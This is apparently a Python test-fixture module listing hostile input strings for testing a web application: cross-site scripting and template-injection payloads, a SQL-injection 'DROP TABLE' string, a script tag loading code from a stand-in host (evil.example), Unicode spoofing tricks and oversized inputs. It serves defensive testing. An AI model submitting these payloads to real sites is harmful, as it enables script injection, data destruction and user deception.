"""Hostile input: script-injection payloads and strings that break naive code.

``PAYLOADS`` are short enough to pass every text field's length limit, so they are stored and
shown; ``OVERSIZED`` must be refused by length limits. ``TEMPLATE_RESULT`` is what a template
engine would print if it evaluated one of the template-injection payloads.
"""

from __future__ import annotations

TEMPLATE_RESULT = "4011"  # 1337*3: a number no page prints by accident

PAYLOADS: dict[str, str] = {
    "script-tag": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "attribute-breakout": '"><img src=x onerror=alert(1)>',
    "single-quote-breakout": "'><svg onload=alert(1)>",
    "svg-onload": "<svg/onload=alert(1)>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "javascript-url": "javascript:alert(1)",
    "javascript-url-obfuscated": " jav&#x09;ascript:alert(1)",
    "markdown-js-link": "[click me](javascript:alert(1))",
    "markdown-image-onerror": '![x](x" onerror="alert(1))',
    "html-in-markdown": '<a href="javascript:alert(1)">x</a><div style="x:expression(alert(1))">',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "jinja-expression": "{{ 1337*3 }}",
    "jinja-statement": "{% for x in range(1) %}{{ 1337*3 }}{% endfor %}",
    "dollar-template": "${1337*3} #{1337*3}",
    "css-expression": "x{background:url(javascript:alert(1))} width:expression(alert(1))",
    "style-tag": "<style>body{display:none}</style>",
    "unicode-rtl-override": "Alice\u202egnp.exe\u202c",
    "unicode-fullwidth-tags": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "unicode-zero-width": "Ad\u200bmin\u200d \ufeff",
    "unicode-combining": "Z\u0351\u0363\u0364a\u0306\u0308l\u0337go",
    "emoji-and-astral": "\U0001f916 \U0001d573\U0001d58e\U0001d592",
    "html-entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;",
    "sql-ish": "'; DROP TABLE users; --",
    "percent-format": "%(name)s %s %d {0} {name}",
    "newlines-and-tabs": "line one\r\nline two\ttabbed",
}

OVERSIZED: dict[str, str] = {
    "very-long": "A" * 100_000,
    "long-script": "<script>" + "x" * 50_000 + "</script>",
}

NUL_BYTES = "before\x00after"


def short(payload: str, limit: int) -> str:
    """The payload cut to a field's limit (most fields accept 80+ characters)."""
    return payload[:limit]
